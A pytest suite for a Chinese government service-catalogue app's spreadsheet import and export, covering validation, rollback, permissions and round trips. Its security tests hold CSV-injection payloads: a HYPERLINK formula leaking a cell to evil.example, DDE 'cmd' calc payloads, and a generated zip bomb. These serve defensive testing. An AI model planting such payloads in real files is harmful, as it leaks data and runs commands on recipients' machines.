"""Catalogue import and export (XLSX / CSV): parsing, the all-or-nothing report, materials,
permissions, CSV injection, the round trip and the `tongban catalog` commands."""

import csv
import io
import zipfile

import pytest
from django.db import transaction
from openpyxl import Workbook, load_workbook
from typer.testing import CliRunner

from tongban.accounts import services as accounts
from tongban.accounts.actors import Actor
from tongban.catalog import services, transfer
from tongban.catalog.models import ItemType, ItemVersion, MaterialForm, ServiceItem, VersionStatus
from tongban.catalog.services import ITEM_FIELDS, MATERIAL_FIELDS
from tongban.cli.main import app
from tongban.core.authz import SYSTEM
from tongban.core.errors import InvalidInput
from tongban.core.i18n import bilingual

HEADER = [
    "事项编码",
    "实施部门编码",
    "事项名称",
    "事项类型",
    "法定时限",
    "承诺时限",
    "网办深度",
    "跑动次数",
    "高频事项",
    "容缺受理",
    "办理流程",
    "搜索关键词",
]
MATERIAL_HEADER = [
    "事项编码",
    "序号",
    "材料名称",
    "必要",
    "核心",
    "形式",
    "份数",
    "可由证照替代",
    "可由共享数据替代",
    "备注",
]


def item_row(
    code,
    department="scjgj",
    name="食品经营许可",
    item_type="行政许可",
    statutory=20,
    promised=5,
    online="全程网办",
    visits=0,
    high_frequency="是",
    gaps="否",
    steps="申请→受理→审查→决定",
    keywords="开饭店 餐饮",
):
    return [
        code,
        department,
        name,
        item_type,
        statutory,
        promised,
        online,
        visits,
        high_frequency,
        gaps,
        steps,
        keywords,
    ]


def xlsx(items, materials=None) -> bytes:
    """A workbook as a person would make it: header row, then rows (formula-looking texts become formulas)."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "事项清单"
    for row in items:
        sheet.append(row)
    if materials is not None:
        sheet = workbook.create_sheet("申请材料")
        for row in materials:
            sheet.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def csv_bytes(rows, encoding="utf-8-sig") -> bytes:
    out = io.StringIO(newline="")
    csv.writer(out).writerows([["" if v is None else v for v in row] for row in rows])
    return out.getvalue().encode(encoding)


def found(report) -> set[tuple[int, str, str]]:
    return {(p.row, p.field, p.code) for p in report.problems}


def content(code: str, version: ItemVersion | None = None) -> dict:
    item = ServiceItem.objects.select_related("department", "current").get(code=code)
    version = version or item.current
    return {
        "department": item.department.code,
        **{name: getattr(version, name) for name in ITEM_FIELDS},
        "materials": [{f: getattr(m, f) for f in MATERIAL_FIELDS} for m in version.materials.all()],
    }


def catalogue() -> dict:
    """The published catalogue's content, by item code."""
    return {i.code: content(i.code) for i in ServiceItem.objects.filter(current__isnull=False)}


# --- valid imports --------------------------------------------------------------------------------


def test_xlsx_import_creates_published_items_with_their_materials(db):
    data = xlsx(
        [
            HEADER,
            item_row("TEST-FOOD-001"),
            item_row("TEST-PENSION-02", "rsj", "养老保险待遇申领", "公共服务", None, 0, "网上预审", 1, "否"),
        ],
        [
            MATERIAL_HEADER,
            ["TEST-FOOD-001", 2, "经营场所平面图", "是", "是", "复印件", 2, None, None, "加盖公章"],
            ["TEST-FOOD-001", 1, "营业执照", "是", "是", "电子件", None, "business_licence", None, None],
            ["TEST-FOOD-001", 3, "食品安全管理制度", "否", None, "原件", 1, None, "food_rules", None],
        ],
    )
    report = transfer.import_catalogue(SYSTEM, data, "catalogue.xlsx")

    assert report.ok, [(p.row, p.field, str(p.message)) for p in report.problems]
    assert (report.rows, report.created, report.updated, report.unchanged) == (2, 2, 0, 0)
    assert (report.material_rows, report.materials_replaced) == (3, 1)
    food = ServiceItem.objects.get(code="TEST-FOOD-001")
    assert [(v.number, v.status) for v in food.versions.all()] == [(1, VersionStatus.PUBLISHED)]
    version = food.current
    assert (version.item_type, version.online_level, version.visits_required) == (
        ItemType.LICENSING,
        "full_online",
        0,
    )
    assert (version.statutory_limit_days, version.promised_limit_days) == (20, 5)
    assert version.high_frequency and not version.accepts_with_gaps
    assert version.steps == ["申请", "受理", "审查", "决定"]
    assert [(m.position, m.name, m.form, m.copies) for m in version.materials.all()] == [
        (0, "营业执照", MaterialForm.ELECTRONIC, 1),
        (1, "经营场所平面图", MaterialForm.COPY, 2),
        (2, "食品安全管理制度", MaterialForm.ORIGINAL, 1),
    ]
    optional = version.materials.get(name="食品安全管理制度")
    assert not optional.required and not optional.core  # optional, so not core unless the file says so
    assert version.materials.get(name="营业执照").licence_type == "business_licence"
    pension = ServiceItem.objects.get(code="TEST-PENSION-02")
    assert pension.department.code == "rsj"
    assert (pension.current.item_type, pension.current.statutory_limit_days, pension.current.is_instant) == (
        ItemType.PUBLIC_SERVICE,
        None,
        True,
    )
    assert not pension.current.materials.exists()


def test_csv_import_with_english_keys_then_update_makes_new_versions(db):
    header = ["code", "department_code", "name", "item_type", "statutory_limit_days", "promised_limit_days"]
    first = csv_bytes(
        [
            header,
            ["TEST-CSV-001", "scjgj", "个体工商户登记", "licensing", "15", "3"],
            ["TEST-CSV-002", "xzspj", "企业开办", "行政确认", "10", "1"],
            ["TEST-CSV-003", "rsj", "社保卡申领", "公共服务", "", ""],
        ]
    )
    report = transfer.import_catalogue(SYSTEM, first, "items.csv")
    assert report.ok and (report.created, report.updated, report.unchanged) == (3, 0, 0)
    assert ServiceItem.objects.get(code="TEST-CSV-002").current.item_type == ItemType.CONFIRMATION

    second = csv_bytes(
        [
            header,
            ["TEST-CSV-001", "scjgj", "个体工商户登记", "licensing", "15", "2"],  # promised 3 → 2
            ["TEST-CSV-002", "xzspj", "企业开办", "行政确认", "10", "1"],  # as it is
            ["TEST-CSV-003", "rsj", "社保卡申领", "公共服务", "", ""],  # as it is
        ]
    )
    report = transfer.import_catalogue(SYSTEM, second, "items.csv")
    assert report.ok and (report.created, report.updated, report.unchanged) == (0, 1, 2)
    changed = ServiceItem.objects.get(code="TEST-CSV-001")
    assert [(v.number, v.status) for v in changed.versions.order_by("number")] == [
        (1, VersionStatus.SUPERSEDED),
        (2, VersionStatus.PUBLISHED),
    ]
    assert changed.current.promised_limit_days == 2
    assert ServiceItem.objects.get(code="TEST-CSV-002").versions.count() == 1


def test_changed_materials_alone_make_one_new_version(db):
    rows = [HEADER, item_row("TEST-MAT-001"), item_row("TEST-MAT-002")]
    materials = [MATERIAL_HEADER, ["TEST-MAT-001", 1, "营业执照", "是", "是", "电子件", 1, None, None, None]]
    assert transfer.import_catalogue(SYSTEM, xlsx(rows, materials), "c.xlsx").ok

    materials.append(["TEST-MAT-001", 2, "身份证", "是", "是", "原件", 1, None, None, None])
    report = transfer.import_catalogue(SYSTEM, xlsx(rows, materials), "c.xlsx")

    assert report.ok and (report.created, report.updated, report.unchanged) == (0, 1, 1)
    assert report.materials_replaced == 1
    item = ServiceItem.objects.get(code="TEST-MAT-001")
    assert [(v.number, v.status) for v in item.versions.order_by("number")] == [
        (1, VersionStatus.SUPERSEDED),
        (2, VersionStatus.PUBLISHED),
    ]
    assert [m.name for m in item.current.materials.all()] == ["营业执照", "身份证"]
    assert [m.name for m in item.versions.get(number=1).materials.all()] == ["营业执照"]  # frozen as it was
    assert ServiceItem.objects.get(code="TEST-MAT-002").versions.count() == 1

    # The same file again changes nothing.
    report = transfer.import_catalogue(SYSTEM, xlsx(rows, materials), "c.xlsx")
    assert report.ok and (report.updated, report.unchanged, report.materials_replaced) == (0, 2, 0)
    assert item.versions.count() == 2


def test_no_publish_leaves_drafts(db):
    assert transfer.import_catalogue(SYSTEM, xlsx([HEADER, item_row("TEST-DRAFT-001")]), "c.xlsx").ok
    rows = [HEADER, item_row("TEST-DRAFT-001", promised=4), item_row("TEST-DRAFT-002")]
    materials = [MATERIAL_HEADER, ["TEST-DRAFT-002", 1, "申请表", "是", "是", "原件", 1, None, None, None]]

    report = transfer.import_catalogue(SYSTEM, xlsx(rows, materials), "c.xlsx", publish=False)

    assert report.ok and (report.created, report.updated) == (1, 1)
    updated = ServiceItem.objects.get(code="TEST-DRAFT-001")
    assert updated.current.promised_limit_days == 5  # the published version is untouched
    assert updated.versions.get(status=VersionStatus.DRAFT).promised_limit_days == 4
    new = ServiceItem.objects.get(code="TEST-DRAFT-002")
    assert new.current is None
    draft = new.versions.get()
    assert draft.status == VersionStatus.DRAFT and [m.name for m in draft.materials.all()] == ["申请表"]


def test_headers_with_notes_and_mixed_languages_are_understood(db):
    header = [
        "code",
        "实施部门编码",
        "事项名称",
        "法定时限（工作日）",
        "Promised_Limit_Days",
        "风险等级",
        "秒批",
        "ITEM_TYPE",
    ]
    data = csv_bytes([header, ["TEST-HDR-001", "scjgj", "名称", "20", "1", "高风险", "TRUE", "1"]])
    report = transfer.import_catalogue(SYSTEM, data, "h.csv")
    assert report.ok, found(report)
    version = ServiceItem.objects.get(code="TEST-HDR-001").current
    assert (version.statutory_limit_days, version.promised_limit_days) == (20, 1)
    assert version.risk_level == "high" and version.auto_approvable
    assert version.item_type == ItemType.LICENSING  # taskType 1


def test_separate_materials_csv_for_items_already_in_the_catalogue(db):
    assert transfer.import_catalogue(SYSTEM, csv_bytes([HEADER, item_row("TEST-SEP-001")]), "items.csv").ok
    materials = csv_bytes(
        [
            ["item_code", "position", "name", "required", "core", "form", "copies", "licence_type"],
            ["TEST-SEP-001", "1", "营业执照", "1", "1", "electronic", "1", "business_licence"],
            ["TEST-SEP-001", "2", "承诺书", "0", "0", "original", "1", ""],
        ]
    )
    report = transfer.import_catalogue(SYSTEM, materials, "materials.csv")
    assert report.ok, found(report)
    assert (report.rows, report.material_rows, report.materials_replaced) == (0, 2, 1)
    item = ServiceItem.objects.get(code="TEST-SEP-001")
    assert item.current.number == 2
    assert [(m.name, m.required, m.core) for m in item.current.materials.all()] == [
        ("营业执照", True, True),
        ("承诺书", False, False),
    ]


# --- validation: every problem, nothing written ------------------------------------------------------


def test_every_problem_is_reported_with_row_and_field_and_nothing_is_written(db):
    rows = [
        HEADER,
        item_row("TEST-VAL-001"),  # 1: fine
        item_row("TEST-VAL-002", department="nosuch"),  # 2
        item_row("TEST-VAL-003", item_type="行政许可证"),  # 3
        item_row("TEST-VAL-004", statutory=5, promised=20),  # 4
        item_row("TEST-VAL-001"),  # 5: same code as row 1
        item_row("TEST-VAL-006", high_frequency="也许"),  # 6
        [None] * len(HEADER),  # 7: blank, still counted
        item_row("!"),  # 8
        item_row("TEST-VAL-009", statutory="二十"),  # 9
        item_row("TEST-VAL-010", online="全程网办", visits=2),  # 10
    ]
    materials = [
        MATERIAL_HEADER,
        ["TEST-NOWHERE-1", 1, "营业执照", "是", "是", "电子件", 1, None, None, None],  # 1
        ["TEST-VAL-001", 1, "承诺书", "否", "是", "原件", 1, None, None, None],  # 2: optional but core
        ["TEST-VAL-001", 2, "身份证", "是", "是", "原件", 0, None, None, None],  # 3: no copies
        ["TEST-VAL-001", 3, "照片", "是", "是", "传真", 1, None, None, None],  # 4: unknown form
        ["TEST-VAL-001", "第四", None, "是", "是", "原件", 1, None, None, None],  # 5: no name, bad order
    ]
    before = ServiceItem.objects.count(), ItemVersion.objects.count()

    report = transfer.import_catalogue(SYSTEM, xlsx(rows, materials), "bad.xlsx")

    assert not report.ok
    assert found(report) == {
        (2, "department_code", "unknown"),
        (3, "item_type", "choice"),
        (4, "promised_limit_days", "above_statutory"),
        (5, "code", "duplicate"),
        (6, "high_frequency", "invalid"),
        (8, "code", "format"),
        (9, "statutory_limit_days", "invalid"),
        (10, "visits_required", "online"),
        (1, "materials.code", "unknown"),
        (2, "materials.core", "optional_core"),
        (3, "materials.copies", "range"),
        (4, "materials.form", "choice"),
        (5, "materials.position", "invalid"),
        (5, "materials.name", "required"),
    }
    assert (report.created, report.updated, report.unchanged, report.materials_replaced) == (0, 0, 0, 0)
    assert (ServiceItem.objects.count(), ItemVersion.objects.count()) == before
    # Items come before materials, each by row.
    assert [p.row for p in report.problems[:8]] == sorted(p.row for p in report.problems[:8])
    duplicate = next(p for p in report.problems if p.code == "duplicate")
    assert bilingual(duplicate.message)["en"] == "The same code appears in row 1."


def test_problems_render_in_both_languages(db):
    rows = [HEADER, item_row("TEST-LANG-001", department="nosuch"), item_row("TEST-LANG-001")]
    report = transfer.import_catalogue(SYSTEM, xlsx(rows), "c.xlsx")
    assert not report.ok
    for problem in report.problems:
        assert not isinstance(problem.message, str), problem  # lazy: rendered when shown
        texts = bilingual(problem.message)
        assert texts["zh-Hans"] and texts["en"]
    unknown = next(p for p in report.problems if p.field == "department_code")
    assert bilingual(unknown.message) == {"zh-Hans": "部门不存在。", "en": "Unknown department."}
    duplicate = next(p for p in report.problems if p.code == "duplicate")
    assert bilingual(duplicate.message)["en"] == "The same code appears in row 1."


def test_an_update_that_makes_an_item_inconsistent_is_a_row_problem(db):
    assert transfer.import_catalogue(SYSTEM, xlsx([HEADER, item_row("TEST-UPD-001")]), "c.xlsx").ok
    data = csv_bytes(
        [["事项编码", "实施部门编码", "承诺时限"], ["TEST-UPD-001", "scjgj", "30"]]
    )  # statutory: 20

    report = transfer.import_catalogue(SYSTEM, data, "c.csv")

    assert found(report) == {(1, "promised_limit_days", "above_statutory")}
    item = ServiceItem.objects.get(code="TEST-UPD-001")
    assert item.versions.count() == 1 and item.current.promised_limit_days == 5


def test_nothing_is_imported_when_only_the_last_row_is_bad(db):
    rows = [
        HEADER,
        *(item_row(f"TEST-LAST-{n:03d}") for n in range(1, 50)),
        item_row("TEST-LAST-050", "nosuch"),
    ]
    report = transfer.import_catalogue(SYSTEM, xlsx(rows), "c.xlsx")
    assert found(report) == {(50, "department_code", "unknown")}
    assert not ServiceItem.objects.filter(code__startswith="TEST-LAST").exists()

    # The same with a bad material in the last materials row and every item row fine.
    rows[-1] = item_row("TEST-LAST-050")
    materials = [
        MATERIAL_HEADER,
        *(["TEST-LAST-001", n, f"材料{n}", "是", "是", "原件", 1, None, None, None] for n in range(1, 10)),
        ["TEST-LAST-002", 1, "材料", "是", "是", "原件", 99, None, None, None],
    ]
    report = transfer.import_catalogue(SYSTEM, xlsx(rows, materials), "c.xlsx")
    assert found(report) == {(10, "materials.copies", "range")}
    assert not ServiceItem.objects.filter(code__startswith="TEST-LAST").exists()


def test_a_failure_while_applying_materials_rolls_back_the_items(db, monkeypatch):
    def broken(actor, code, materials):
        raise InvalidInput.single("materials", "invalid", "broken")

    monkeypatch.setattr(services, "set_materials", broken)
    rows = [HEADER, item_row("TEST-RB-001"), item_row("TEST-RB-002")]
    materials = [MATERIAL_HEADER, ["TEST-RB-002", 1, "营业执照", "是", "是", "原件", 1, None, None, None]]

    report = transfer.import_catalogue(SYSTEM, xlsx(rows, materials), "c.xlsx")

    assert found(report) == {(0, "materials", "invalid")}
    assert report.created == 0
    assert not ServiceItem.objects.filter(code__startswith="TEST-RB").exists()


def test_header_problems(db):
    data = csv_bytes(
        [["事项编码", "事项名称", "事项名字", "name", ""], ["TEST-H-001", "名称", "x", "y", "stray"]]
    )
    report = transfer.import_catalogue(SYSTEM, data, "c.csv")
    assert {
        (0, "department_code", "missing_column"),
        (0, "事项名字", "unknown"),
        (0, "name", "duplicate_column"),
        (0, "column 5", "no_header"),
    } <= found(report)
    assert not ServiceItem.objects.filter(code="TEST-H-001").exists()


def test_more_than_20000_rows_are_refused(db):
    rows = [["事项编码", "实施部门编码", "事项名称"]]
    rows += [[f"TEST-BIG-{n:05d}", "scjgj", "名称"] for n in range(transfer.MAX_ROWS + 1)]
    report = transfer.import_catalogue(SYSTEM, csv_bytes(rows), "big.csv")
    assert found(report) == {(0, "file", "too_many_rows")}
    assert bilingual(report.problems[0].message)["en"] == "The file has more than 20000 rows."
    assert not ServiceItem.objects.filter(code__startswith="TEST-BIG").exists()


def test_import_items_messages_stay_lazy(db):
    """services.import_items itself: a duplicate's message renders in the language active when shown."""
    rows = [
        {"code": "TEST-DUP-001", "department_code": "scjgj", "name": "名称", "item_type": "licensing"}
    ] * 2
    report = services.import_items(SYSTEM, rows)
    (problem,) = report.problems
    assert (problem.row, problem.field, problem.code) == (2, "code", "duplicate")
    assert not isinstance(problem.message, str)
    assert bilingual(problem.message)["en"] == "The same code appears in row 1."


# --- untrusted files ------------------------------------------------------------------------------------


def _zip_without_content_types() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
    return out.getvalue()


def _zip_with_content_types_only() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
    return out.getvalue()


@pytest.mark.parametrize(
    "data",
    [
        b"not a workbook at all",
        b"PK\x03\x04 truncated zip",
        "事项编码,实施部门编码\nTEST-X-001,scjgj\n".encode(),
        _zip_without_content_types(),
        _zip_with_content_types_only(),
    ],
    ids=["text", "truncated-zip", "csv-named-xlsx", "zip-without-content-types", "empty-package"],
)
def test_files_named_xlsx_that_are_not_workbooks_are_refused(db, data):
    report = transfer.import_catalogue(SYSTEM, data, "catalogue.xlsx")
    assert found(report) == {(0, "file", "not_xlsx")}
    assert report.rows == 0


def test_large_files_and_other_types_are_refused(db):
    too_big = b"a" * (transfer.MAX_BYTES + 1)
    assert found(transfer.import_catalogue(SYSTEM, too_big, "c.csv")) == {(0, "file", "too_large")}
    data = xlsx([HEADER, item_row("TEST-TYPE-001")])
    assert found(transfer.import_catalogue(SYSTEM, data, "c.xls")) == {(0, "file", "file_type")}
    assert found(transfer.import_catalogue(SYSTEM, b"", "c.csv")) == {(0, "file", "empty")}
    header_only = transfer.import_catalogue(SYSTEM, csv_bytes([HEADER]), "c.csv")
    assert header_only.ok and header_only.rows == 0
    binary = b"\x00\x01\x02" + "事项编码".encode("utf-16")
    assert found(transfer.import_catalogue(SYSTEM, binary, "c.csv")) == {(0, "file", "encoding")}
    assert not ServiceItem.objects.exists()


def test_a_zip_bomb_is_reported_with_the_limit_it_broke_and_the_real_sizes(db):
    """Issue 9: a 1 MB workbook that unpacks past the cap was told it was "larger than 10 MB"."""
    filler = b"0" * (transfer.MAX_UNZIPPED_BYTES + 1024 * 1024)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/sharedStrings.xml", filler)
    data = out.getvalue()
    assert len(data) < transfer.MAX_BYTES
    report = transfer.import_catalogue(SYSTEM, data, "catalogue.xlsx")
    assert found(report) == {(0, "file", "decompression_bomb")}
    messages = bilingual(report.problems[0].message)
    unpacked = f"{(len(filler) + len('<Types/>')) / 1024 / 1024:.0f}"
    assert "10 MB" not in messages["en"]
    assert "200 MB" in messages["en"] and f"{unpacked} MB" in messages["en"]
    assert f"{round(len(data) / 1024)} KB" in messages["en"]  # the file as uploaded
    assert "200 MB" in messages["zh-Hans"] and f"{unpacked} MB" in messages["zh-Hans"]


def test_a_file_too_large_is_told_its_size_and_the_limit(db):
    too_big = b"a" * (transfer.MAX_BYTES + 300 * 1024)
    report = transfer.import_catalogue(SYSTEM, too_big, "c.csv")
    messages = bilingual(report.problems[0].message)
    assert "10.3 MB" in messages["en"] and "10 MB" in messages["en"]


def test_gb18030_csv_is_accepted(db):
    rows = [HEADER, item_row("TEST-GB-001", name="食品经营许可（餐饮）", keywords="开饭店 饭馆")]
    data = csv_bytes(rows, encoding="gb18030")
    with pytest.raises(UnicodeDecodeError):
        data.decode("utf-8")
    report = transfer.import_catalogue(SYSTEM, data, "gbk.csv")
    assert report.ok, found(report)
    version = ServiceItem.objects.get(code="TEST-GB-001").current
    assert (version.name, version.keywords, version.online_level) == (
        "食品经营许可（餐饮）",
        "开饭店 饭馆",
        "full_online",
    )


def test_formulas_are_never_evaluated(db):
    # A formula cell has no value of its own (openpyxl stores no cached result): the name is missing.
    rows = [HEADER, item_row("TEST-F-001", name='=CONCATENATE("食品","经营许可")')]
    assert ServiceItem.objects.count() == 0
    report = transfer.import_catalogue(SYSTEM, xlsx(rows), "f.xlsx")
    assert found(report) == {(1, "name", "required")}

    # A formula in a number cell gives no number; a text that starts with "=" stays text.
    rows = [HEADER, item_row("TEST-F-002", statutory="=10+10", promised=None)]
    workbook = load_workbook(io.BytesIO(xlsx(rows)))
    text_cell = workbook.active.cell(row=2, column=HEADER.index("搜索关键词") + 1)
    text_cell.value, text_cell.data_type = "=1+1", "s"
    out = io.BytesIO()
    workbook.save(out)
    report = transfer.import_catalogue(SYSTEM, out.getvalue(), "f.xlsx")
    assert report.ok, found(report)
    version = ServiceItem.objects.get(code="TEST-F-002").current
    assert version.statutory_limit_days is None
    assert version.keywords == "=1+1"

    csv_data = csv_bytes([HEADER, item_row("TEST-F-003", keywords="=1+1", name="@SUM(A1)")])
    assert transfer.import_catalogue(SYSTEM, csv_data, "f.csv").ok
    assert ServiceItem.objects.get(code="TEST-F-003").current.keywords == "=1+1"


# --- export ---------------------------------------------------------------------------------------------

DANGEROUS = {
    "name": '=HYPERLINK("http://evil.example/?leak="&A1,"点击")',
    "keywords": "+1 开饭店",
    "fee": "-",
    "legal_basis": "@SUM(1+1)*cmd|' /C calc'!A0",
    "parent_name": "'=already quoted",
}


def _publish(code, department="scjgj", materials=(), **fields):
    fields = {"name": "事项", "item_type": ItemType.LICENSING, **fields}
    services.create_item(SYSTEM, code=code, department_code=department, materials=list(materials), **fields)
    return services.publish_item(SYSTEM, code)


def test_export_protects_against_csv_injection(db):
    _publish("TEST-INJ-001", **DANGEROUS, statutory_limit_days=10, promised_limit_days=2)
    _publish("TEST-INJ-002", materials=[{"name": "=cmd|'/C calc'!A0", "notes": "-2+3"}])

    data = transfer.export_catalogue("csv")
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))
    assert rows[0] == [c.header for c in transfer.ITEM_COLUMNS]
    for row in rows:
        for value in row:
            assert not value.startswith(transfer.FORMULA_TRIGGERS), value
    record = dict(zip(rows[0], rows[1], strict=True))
    assert record["事项名称"] == "'" + DANGEROUS["name"]
    assert record["收费"] == "'-"
    assert record["主事项"] == "''=already quoted"
    assert record["法定时限"] == "10" and record["事项类型"] == "行政许可" and record["高频事项"] == "否"

    workbook = load_workbook(io.BytesIO(transfer.export_catalogue("xlsx")))
    assert workbook.sheetnames == ["事项清单", "申请材料"]
    header = [c.value for c in workbook["事项清单"][1]]
    name = workbook["事项清单"].cell(row=2, column=header.index("事项名称") + 1)
    assert (name.value, name.data_type, name.quotePrefix) == (DANGEROUS["name"], "s", True)
    for sheet in workbook:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
    material = workbook["申请材料"].cell(row=2, column=3)
    assert (material.value, material.data_type, material.quotePrefix) == ("=cmd|'/C calc'!A0", "s", True)

    # Both files import back to the same texts.
    for code in ("TEST-INJ-001", "TEST-INJ-002"):
        services.update_item(SYSTEM, code, name="changed")
        services.publish_item(SYSTEM, code)
    assert transfer.import_catalogue(SYSTEM, data, "back.csv").ok
    version = ServiceItem.objects.get(code="TEST-INJ-001").current
    assert {name: getattr(version, name) for name in DANGEROUS} == DANGEROUS


def test_export_of_one_department_and_only_published_versions(db):
    _publish("TEST-EXP-001", "scjgj")
    _publish("TEST-EXP-002", "rsj")
    services.create_item(
        SYSTEM, code="TEST-EXP-003", department_code="scjgj", name="草稿", item_type="licensing"
    )
    services.update_item(SYSTEM, "TEST-EXP-001", name="未发布的修改")

    rows = list(csv.reader(io.StringIO(transfer.export_catalogue("csv", "scjgj").decode("utf-8-sig"))))
    assert [(r[0], r[2]) for r in rows[1:]] == [("TEST-EXP-001", "事项")]
    everything = list(csv.reader(io.StringIO(transfer.export_catalogue("csv").decode("utf-8-sig"))))
    assert [r[0] for r in everything[1:]] == ["TEST-EXP-001", "TEST-EXP-002"]
    with pytest.raises(InvalidInput):
        transfer.export_catalogue("csv", "nosuch")


# --- round trip -------------------------------------------------------------------------------------------


def _varied_catalogue() -> None:
    """Items with every kind of value an export has to carry."""
    _publish(
        "RT-LIC-001",
        "scjgj",
        name='食品经营许可（含"保健"食品）',
        parent_name="食品经营许可",
        legal_basis="《食品安全法》第三十五条\n《食品经营许可和备案管理办法》, 第十条",
        conditions="有经营场所；有管理制度",
        statutory_limit_days=20,
        promised_limit_days=5,
        fee="不收费",
        online_level="full_online",
        visits_required=0,
        high_frequency=True,
        accepts_with_gaps=True,
        commitment_allowed=True,
        auto_approvable=True,
        keywords="开饭店 开餐馆, 奶茶",
        steps=["申请", "受理", "并联核验规划、施工图审查; 现场核查", "决定>发证"],
        licence_type="food_business_licence",
        form_fields=[
            {"key": "enterprise_name", "label": "经营者名称", "type": "text", "required": True},
            {
                "key": "form",
                "label": "主体业态",
                "type": "select",
                "required": False,
                "options": ["餐饮", "销售"],
            },
        ],
        materials=[
            {"name": "营业执照", "licence_type": "business_licence"},
            {"name": "平面图", "form": "copy", "copies": 2, "notes": "加盖公章，A3 纸"},
            {"name": "承诺书", "required": False, "core": False, "form": "original", "data_query": "credit"},
        ],
    )
    _publish(
        "RT-PS-002",
        "rsj",
        item_type=ItemType.PUBLIC_SERVICE,
        promised_limit_days=0,
        online_level="pre_review",
        risk_level="high",
        steps=["申请", "办结"],
        **DANGEROUS,
    )
    _publish("RT-CF-003", "xzspj", item_type=ItemType.CONFIRMATION, risk_level="medium", name="+86 热线登记")
    services.update_item(
        SYSTEM,
        "RT-CF-003",
        name="热线登记",
        statutory_limit_days=30,
        promised_limit_days=30,
        steps=["申请，当场办结"],
    )
    services.set_materials(SYSTEM, "RT-CF-003", [{"name": "申请表", "form": "electronic"}])
    services.publish_item(SYSTEM, "RT-CF-003")
    for n, item_type in enumerate(ItemType.values):
        _publish(f"RT-TYPE-{n:02d}", "scjgj-djzck", item_type=item_type, name=f"{item_type} 事项")
    services.create_item(SYSTEM, code="RT-DRAFT-099", department_code="scjgj", name="草稿", item_type="levy")


def test_round_trip_reproduces_the_catalogue(db):
    assert not ServiceItem.objects.exists()
    with transaction.atomic():
        _varied_catalogue()
        original = catalogue()
        workbook = transfer.export_catalogue("xlsx")
        items_csv = transfer.export_catalogue("csv")
        materials_csv = transfer.export_materials_csv()
        transaction.set_rollback(True)
    assert len(original) == 3 + len(ItemType.values) and "RT-DRAFT-099" not in original
    assert not ServiceItem.objects.exists()

    with transaction.atomic():
        report = transfer.import_catalogue(SYSTEM, workbook, "catalogue.xlsx")
        assert report.ok, [(p.row, p.field, str(p.message)) for p in report.problems]
        assert report.created == len(original) and report.materials_replaced == 2
        assert catalogue() == original
        assert all(v.number == 1 for v in ItemVersion.objects.all())  # content and materials in one version
        assert transfer.export_catalogue("csv") == items_csv
        transaction.set_rollback(True)

    assert transfer.import_catalogue(SYSTEM, items_csv, "items.csv").ok
    assert transfer.import_catalogue(SYSTEM, materials_csv, "materials.csv").ok
    assert catalogue() == original
    assert transfer.export_materials_csv() == materials_csv


# --- permissions ------------------------------------------------------------------------------------------


def test_a_data_officer_imports_only_items_of_their_department(db):
    officer = Actor(
        accounts.create_staff(
            SYSTEM,
            username="catalog_officer",
            display_name="数据员",
            department_code="scjgj",
            roles=[("data_officer", True)],
        ).user
    )
    _publish("TEST-PERM-RSJ", "rsj")
    rows = [
        HEADER,
        item_row("TEST-PERM-001", "scjgj"),
        item_row("TEST-PERM-002", "scjgj-spjyk"),  # a section of scjgj: in scope
        item_row("TEST-PERM-003", "rsj"),
        item_row("TEST-PERM-RSJ", "scjgj"),  # taking another department's item over
    ]
    report = transfer.import_catalogue(officer, xlsx(rows), "c.xlsx")
    assert found(report) == {(3, "department_code", "not_permitted"), (4, "code", "not_permitted")}
    assert not ServiceItem.objects.filter(code__in=["TEST-PERM-001", "TEST-PERM-002"]).exists()
    assert ServiceItem.objects.get(code="TEST-PERM-RSJ").department.code == "rsj"

    materials = csv_bytes(
        [MATERIAL_HEADER, ["TEST-PERM-RSJ", 1, "营业执照", "是", "是", "原件", 1, "", "", ""]]
    )
    report = transfer.import_catalogue(officer, materials, "m.csv")
    assert found(report) == {(1, "materials.code", "not_permitted")}

    assert transfer.import_catalogue(officer, xlsx(rows[:3]), "c.xlsx").ok


# --- command line -----------------------------------------------------------------------------------------


@pytest.fixture
def cli():
    runner = CliRunner()

    def invoke(*args):
        return runner.invoke(app, [str(a) for a in args], env={"COLUMNS": "200"})

    return invoke


def test_cli_import_and_export(cli, db, tmp_path):
    source = tmp_path / "in.xlsx"
    source.write_bytes(
        xlsx(
            [HEADER, item_row("TEST-CLI-001"), item_row("TEST-CLI-002", "rsj")],
            [MATERIAL_HEADER, ["TEST-CLI-001", 1, "营业执照", "是", "是", "原件", 1, None, None, None]],
        )
    )
    result = cli("catalog", "import", source)
    assert result.exit_code == 0, result.output
    assert "Imported 2 item rows" in result.output and "2 created" in result.output
    assert "materials of 1 items replaced" in result.output

    again = cli("catalog", "import", source)
    assert again.exit_code == 0 and "2 unchanged" in again.output

    exported = tmp_path / "out.xlsx"
    result = cli("catalog", "export", exported, "--department", "scjgj")
    assert result.exit_code == 0, result.output
    assert "Exported 1 published items" in result.output
    sheet = load_workbook(exported)["事项清单"]
    assert [c.value for c in sheet[2]][:2] == ["TEST-CLI-001", "scjgj"]

    items_csv, materials_csv = tmp_path / "out.csv", tmp_path / "materials.csv"
    result = cli("catalog", "export", items_csv, "--materials", materials_csv)
    assert result.exit_code == 0, result.output
    assert items_csv.read_bytes().startswith("\ufeff事项编码".encode())
    assert "营业执照" in materials_csv.read_text(encoding="utf-8-sig")


def test_cli_import_lists_problems_and_exits_2(cli, db, tmp_path):
    source = tmp_path / "bad.csv"
    source.write_bytes(csv_bytes([HEADER, item_row("TEST-CLI-003"), item_row("TEST-CLI-004", "nosuch")]))
    result = cli("catalog", "import", source, "--no-publish")
    assert result.exit_code == 2, result.output
    assert "nothing was imported" in result.output
    line = next(line for line in result.output.splitlines() if "department_code" in line)
    assert "2" in line.split("department_code")[0] and "实施部门编码" in line
